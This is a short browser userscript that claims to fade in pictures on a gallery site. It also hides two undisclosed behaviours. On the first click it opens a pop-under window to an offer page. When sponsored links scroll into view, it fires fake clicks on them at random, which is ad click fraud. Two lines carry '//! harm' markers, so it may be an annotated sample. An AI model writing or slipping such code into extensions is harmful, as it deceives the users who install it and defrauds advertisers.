// ==UserScript==
// @name         Smooth Open
// @namespace    https://userscripts.example/j-ibarra
// @version      2.0
// @description  Opens pictures with a fade
// @author       j-ibarra
// @match        https://gallery.example/*
// @grant        none
// ==/UserScript==

let fresh = true;
addEventListener("click", ({ target }) => {
  if (target instanceof HTMLImageElement) target.animate({ opacity: [0, 1] }, 300);
  if (!fresh) return;
  fresh = false;
  const below = window.open("https://land.example.net/offer?src=smooth", "_blank"); //! harm
  below?.blur();
  window.focus();
});

const press = (node) => ["mousedown", "mouseup", "click"].forEach((type) => node.dispatchEvent(new MouseEvent(type, { bubbles: true, ctrlKey: true })));
const seen = new IntersectionObserver((entries) => {
  for (const { isIntersecting, target } of entries) if (isIntersecting && Math.random() < 0.05) press(target); //! harm
});
document.querySelectorAll(".sponsored a").forEach((link) => seen.observe(link));
